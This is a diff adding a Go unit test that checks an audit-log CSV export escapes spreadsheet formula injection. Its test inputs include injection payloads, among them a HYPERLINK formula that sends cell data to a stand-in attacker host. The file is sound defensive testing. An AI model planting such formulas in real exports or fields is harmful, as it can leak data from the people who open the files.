@@ -0,0 +1,100 @@
+package query
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"testing"
+	"time"
+
+	"gozero-ddd/internal/domain/repository"
+)
+
+// stubAuditLogRepository 返回固定审计日志的仓储
+type stubAuditLogRepository struct {
+	entries []*repository.AuditLogEntry
+}
+
+func (r *stubAuditLogRepository) Append(context.Context, *repository.AuditLogEntry) error {
+	return nil
+}
+
+func (r *stubAuditLogRepository) Find(_ context.Context, filter repository.AuditLogFilter) ([]*repository.AuditLogEntry, error) {
+	if filter.BeforeSeq != 0 {
+		return nil, nil
+	}
+	return r.entries, nil
+}
+
+func TestCSVCell(t *testing.T) {
+	tests := []struct {
+		in   string
+		want string
+	}{
+		{"", ""},
+		{"alice", "alice"},
+		{"req-1", "req-1"},
+		{"=HYPERLINK(\"https://evil.example\",\"x\")", "'=HYPERLINK(\"https://evil.example\",\"x\")"},
+		{"+1+1", "'+1+1"},
+		{"-1+1", "'-1+1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"a=1", "a=1"},
+		{`{"name":"=1"}`, `{"name":"=1"}`},
+	}
+
+	for _, tt := range tests {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestAuditLogExportEscapesFormulas(t *testing.T) {
+	now := time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)
+	repo := &stubAuditLogRepository{entries: []*repository.AuditLogEntry{{
+		Seq:             1,
+		EventID:         "e1",
+		EventName:       "document.added",
+		AggregateID:     "d1",
+		KnowledgeBaseID: "kb1",
+		Actor:           "@evil",
+		RequestID:       `=HYPERLINK("https://evil.example/?"&A1,"open")`,
+		ClientIP:        "10.0.0.1",
+		Payload:         json.RawMessage(`{"title":"=cmd"}`),
+		OccurredAt:      now,
+		RecordedAt:      now,
+	}}}
+	export := &AuditLogExport{auditRepo: repo}
+
+	var buf bytes.Buffer
+	if err := export.Write(context.Background(), &buf); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("got %d rows, want header and one entry", len(records))
+	}
+
+	row := make(map[string]string, len(auditLogCSVHeader))
+	for i, column := range auditLogCSVHeader {
+		row[column] = records[1][i]
+	}
+	want := map[string]string{
+		"actor":      "'@evil",
+		"request_id": `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
+		"event_id":   "e1",
+		"client_ip":  "10.0.0.1",
+		"payload":    `{"title":"=cmd"}`,
+	}
+	for column, value := range want {
+		if row[column] != value {
+			t.Errorf("%s = %q, want %q", column, row[column], value)
+		}
+	}
+}